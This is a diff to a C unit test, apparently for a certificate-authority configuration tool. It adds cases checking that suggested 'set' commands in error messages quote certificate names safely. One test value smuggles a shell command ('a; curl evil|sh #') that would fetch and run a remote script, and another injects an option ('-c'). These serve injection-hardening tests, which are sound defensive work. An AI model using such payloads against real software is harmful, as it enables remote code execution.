@@ -81,6 +81,21 @@ static void offered(void **state)
 	w.row = &(const struct store_cert){ .name = NAME };
 	FAILS(ERR_CONFIG, "change ca_profile of the CA two in the",
 	      wish_offered(&w, &offer, &err));
+	/* a try at its staging directory: that CA is in no configuration */
+	w.ca = &(const struct certrepo_ca){ .name = "two-staging",
+					    .staging_of = "two" };
+	FAILS(ERR_CONFIG, "change ca_profile of the CA two in the",
+	      wish_offered(&w, &offer, &err));
+	w.ca = &narrow;
+	/* a name is one word of the command, whatever it is */
+	w.row = &(const struct store_cert){ .name = "a; curl evil|sh #",
+					    .ca_profile = "own" };
+	FAILS(ERR_CONFIG, " set 'a; curl evil|sh #' ca_profile=...",
+	      wish_offered(&w, &offer, &err));
+	w.row = &(const struct store_cert){ .name = "-c", .ca_profile = "own" };
+	FAILS(ERR_CONFIG, " set -- -c ca_profile=...",
+	      wish_offered(&w, &offer, &err));
+	w.row = &(const struct store_cert){ .name = NAME };
 	/* however many there are, it is a sentence */
 	for (offer.n_profiles = 0; offer.n_profiles < 50; offer.n_profiles++)
 		p[offer.n_profiles] = (struct acme_profile){
